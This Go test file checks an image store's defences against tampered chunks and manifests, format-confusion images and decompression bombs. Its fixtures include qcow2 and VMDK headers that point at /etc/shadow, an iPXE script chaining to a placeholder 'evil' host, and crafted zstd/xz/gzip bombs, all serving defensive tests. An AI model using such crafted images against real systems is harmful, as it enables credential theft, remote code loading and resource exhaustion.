package images

import (
	"bytes"
	"context"
	"errors"
	"io"
	"math/rand/v2"
	"net/http"
	"os"
	"runtime"
	"runtime/debug"
	"strings"
	"testing"

	"github.com/klauspost/compress/gzip"
	"github.com/klauspost/compress/zstd"
	"github.com/ulikunitz/xz"

	"github.com/lpmos/lpmos/agent/wire"
)

// S38: a chunk and a manifest are what their names say, whoever has put what where.
func TestS38_SwappedAndReplayed(t *testing.T) {
	dir := t.TempDir()
	first := openStore(t, dir)
	m, digest := mustImport(t, first, diskImage(5*wire.ChunkBytes, 1))
	older, olderDigest := mustImport(t, first, diskImage(5*wire.ChunkBytes, 2))
	swap := func(a, b string) {
		t.Helper()
		for _, move := range [][2]string{{a, a + ".x"}, {b, a}, {a + ".x", b}} {
			if err := os.Rename(move[0], move[1]); err != nil {
				t.Fatal(err)
			}
		}
	}
	swap(first.chunkPath(m.Chunks[2]), first.chunkPath(m.Chunks[3]))
	s := openStore(t, dir)
	n := &siteNode{store: s, replica: alone(s)}
	for _, c := range []string{m.Chunks[2], m.Chunks[3]} {
		if w := n.machine("/chunk/" + c); w.Code == http.StatusOK {
			t.Errorf("a swapped chunk was served")
		}
		if err := s.VerifyChunk(c); !errors.Is(err, ErrCorrupt) && !errors.Is(err, ErrNotFound) {
			t.Errorf("a swapped chunk: %v", err)
		}
	}
	if w := n.machine("/chunk/" + m.Chunks[4]); w.Code != http.StatusOK {
		t.Errorf("one that is in its place: %d", w.Code)
	}
	// An older manifest under the newer one's name, and one whose chunks were reordered.
	swap(s.manifestPath(digest), s.manifestPath(olderDigest))
	s = openStore(t, dir)
	n = &siteNode{store: s, replica: alone(s)}
	for _, d := range []string{digest, olderDigest} {
		if _, err := s.Manifest(d); !errors.Is(err, ErrNotFound) {
			t.Errorf("a manifest under another's name: %v", err)
		}
		if w := n.machine("/manifest/" + d); w.Code == http.StatusOK {
			t.Errorf("it was served")
		}
	}
	if older.Digest() == m.Digest() {
		t.Error("two images have one digest")
	}
	reordered := m
	reordered.Chunks = append([]string(nil), m.Chunks...)
	reordered.Chunks[2], reordered.Chunks[3] = m.Chunks[3], m.Chunks[2]
	if reordered.Digest() == m.Digest() {
		t.Error("the order of the chunks is not part of the digest")
	}
}

// S39: an image that another program would read as a container of references to other
// files is refused by its first bytes, whatever it is called and however it is packed,
// also when it begins a good disk.
func TestS39_FormatConfusion(t *testing.T) {
	at := func(offset int, magic string) []byte {
		raw := diskImage(2*wire.ChunkBytes, 1) // with a partition table
		copy(raw[offset:], magic)
		return raw
	}
	qcow2 := at(0, "QFI\xfb\x00\x00\x00\x03\x00\x00\x00\x00\x00\x00\x00\x68\x00\x00\x00\x0b")
	copy(qcow2[0x68:], "/etc/shadow")
	for name, raw := range map[string][]byte{
		"qcow2 with a backing file": qcow2,
		"qcow2 with external data":  at(0, "QFI\xfb\x00\x00\x00\x03"),
		"VMDK":                      at(0, "KDMV"),
		"VMDK of ESX":               at(0, "COWD"),
		"VMDK extents":              at(0, "# Disk DescriptorFile\nversion=1\nRW 63 FLAT \"/etc/shadow\" 0\n"),
		"VMDK extents, indented":    at(0, "#Disk DescriptorFile\nversion=1\n"),
		"VHDX":                      at(0, "vhdxfile"),
		"VHD":                       at(0, "conectix"),
		"VDI":                       at(0x40, "\x7f\x10\xda\xbe"),
		"QED":                       at(0, "QED\x00"),
		"Parallels":                 at(0, "WithoutFreeSpace"),
		"Parallels extended":        at(0, "WithouFreSpacExt"),
		"LUKS":                      at(0, "LUKS\xba\xbe\x00\x02"),
		"an iPXE script":            at(0, "#!ipxe\nchain http://evil"),
		"a shell script":            at(0, "#!/bin/sh\n"),
	} {
		for _, kind := range []compression{packedNot, packedGzip, packedXz, packedZstd} {
			dir := t.TempDir()
			_, _, err := openStore(t, dir).Import(t.Context(), bytes.NewReader(pack(t, kind, raw)), ImportOptions{})
			var refused *RefusedError
			if !errors.As(err, &refused) || len(files(t, dir)) != 0 {
				t.Errorf("%s as %s: %v, left %v", name, kind, err, files(t, dir))
			}
		}
	}
}

// peak runs f and tells by how much the heap grew at most, as far as the collector saw.
func peak(f func()) uint64 {
	defer debug.SetGCPercent(debug.SetGCPercent(10))
	runtime.GC()
	var before, after runtime.MemStats
	runtime.ReadMemStats(&before)
	f()
	runtime.ReadMemStats(&after)
	return after.Sys - min(after.Sys, before.Sys)
}

// counted counts what is taken out of a reader.
type counted struct {
	r io.Reader
	n int64
}

func (c *counted) Read(p []byte) (int, error) {
	n, err := c.r.Read(p)
	c.n += int64(n)
	return n, err
}

// bomb is a disk image that goes on with zeros for ever, packed as it is read.
func bomb(t *testing.T, kind compression) io.Reader {
	t.Helper()
	r, w := io.Pipe()
	t.Cleanup(func() { r.Close() })
	go func() {
		var z io.WriteCloser
		var err error
		switch kind {
		case packedGzip:
			z = gzip.NewWriter(w)
		case packedZstd:
			z, err = zstd.NewWriter(w, zstd.WithEncoderConcurrency(1))
		case packedXz:
			z, err = xz.WriterConfig{DictCap: 1 << 20}.NewWriter(w)
		}
		if err == nil {
			_, err = z.Write(diskImage(wire.ChunkBytes, 1))
		}
		for zeros := make([]byte, 1<<20); err == nil; {
			_, err = z.Write(zeros)
		}
	}()
	return r
}

// S40: what unpacks to more than is allowed ends there, and so does what asks for more
// memory than it can need.
func TestS40_Bombs(t *testing.T) {
	refusedWith := func(name string, file io.Reader, mostRead int64, want ...string) {
		t.Helper()
		dir := t.TempDir()
		s := openStore(t, dir) // 64 MiB at most
		c := &counted{r: file}
		var err error
		grown := peak(func() { _, _, err = s.Import(t.Context(), c, ImportOptions{}) })
		var refused *RefusedError
		if !errors.As(err, &refused) {
			t.Errorf("%s: %v", name, err)
		}
		said := false
		for _, w := range want {
			said = said || err != nil && strings.Contains(err.Error(), w)
		}
		if !said {
			t.Errorf("%s: %v, want one of %q", name, err, want)
		}
		if c.n > mostRead {
			t.Errorf("%s: %d bytes were read of it", name, c.n)
		}
		if grown > 256<<20 {
			t.Errorf("%s: the process grew by %d MiB", name, grown>>20)
		}
		if left := files(t, dir); len(left) != 0 {
			t.Errorf("%s: left behind: %v", name, left)
		}
	}
	for _, kind := range []compression{packedGzip, packedZstd, packedXz} {
		refusedWith("endless zeros in "+string(kind), bomb(t, kind), 4<<20, "limit of 64 MiB")
	}
	// Frames that state a window of 2 GiB, or, in one segment, of their whole length.
	disk := diskImage(1<<20, 1)
	zst := func(header []byte) io.Reader {
		frame := append([]byte{0x28, 0xb5, 0x2f, 0xfd}, header...)
		for at := 0; at < len(disk); at += 64 << 10 { // raw blocks
			block := disk[at : at+64<<10]
			h := uint32(len(block)) << 3
			frame = append(append(frame, byte(h), byte(h>>8), byte(h>>16)), block...)
		}
		return bytes.NewReader(frame)
	}
	refusedWith("a zstd window of 2 GiB", zst([]byte{0, 21 << 3}), 2<<20, "window", "over the limits")
	refusedWith("a zstd segment of 1 TiB", zst([]byte{0xe0, 0, 0, 0, 0, 0, 1, 0, 0}), 2<<20, "window", "over the limits")
	// A dictionary of 4 GiB.
	small := pack(t, packedXz, disk)
	large := bytes.Clone(small)
	large[16] = 40
	refusedWith("an xz dictionary of 4 GiB", bytes.NewReader(large), 2<<20, "dictionary")
	// Nothing at all, for ever, behind a good image.
	refusedWith("an endless tail", io.MultiReader(bytes.NewReader(pack(t, packedZstd, disk)), endless{}), 128<<20, "limit of 64 MiB", "damaged")
	refusedWith("an endless xz padding", io.MultiReader(bytes.NewReader(small), endless{}), 128<<20, "limit of 64 MiB", "damaged")
	refusedWith("endless empty gzip members", io.MultiReader(bytes.NewReader(pack(t, packedGzip, disk)), &repeated{b: pack(t, packedGzip, nil)}), 128<<20, "limit of 64 MiB")
}

// repeated is the same bytes again and again.
type repeated struct {
	b  []byte
	at int
}

func (r *repeated) Read(p []byte) (int, error) {
	n := copy(p, r.b[r.at:])
	r.at = (r.at + n) % len(r.b)
	return n, nil
}

// noisy is an image that cannot be packed and does not end.
type noisy struct {
	head []byte
	rng  *rand.ChaCha8
}

func (n *noisy) Read(p []byte) (int, error) {
	if len(n.head) > 0 {
		k := copy(p, n.head)
		n.head = n.head[k:]
		return k, nil
	}
	return n.rng.Read(p)
}

// S42: whatever is stored, the room of the log stays, and nothing of what did not fit.
func TestS42_TheLogKeepsItsRoom(t *testing.T) {
	const disk, reserve = 300 << 20, 100 << 20
	dir := t.TempDir()
	used := func() (n uint64) {
		for _, f := range files(t, dir) {
			if st, err := os.Stat(dir + "/" + f); err == nil {
				n += uint64(st.Size())
			}
		}
		return n
	}
	least := uint64(disk)
	s, err := OpenStore(dir, StoreOptions{Reserve: reserve, MaxBytes: 1 << 40, FreeSpace: func(string) (uint64, error) {
		free := uint64(disk) - min(disk, used())
		least = min(least, free)
		return free, nil
	}})
	if err != nil {
		t.Fatal(err)
	}
	_, kept := mustImport(t, s, diskImage(5*wire.ChunkBytes, 1))
	head := diskImage(wire.ChunkBytes, 1)
	_, _, err = s.Import(context.Background(), &noisy{head: head, rng: rand.NewChaCha8([32]byte{42})}, ImportOptions{})
	var full *SpaceError
	if !errors.As(err, &full) {
		t.Fatalf("an image without end: %v", err)
	}
	if least < reserve-16*wire.ChunkBytes {
		t.Errorf("%d MiB were left at one time, of %d kept free", least>>20, reserve>>20)
	}
	if n := used(); n > 1<<20 {
		t.Errorf("%d MiB stayed behind of an image that did not fit", n>>20)
	}
	if err := s.Verify(kept); err != nil {
		t.Errorf("an image that was here before: %v", err)
	}
}
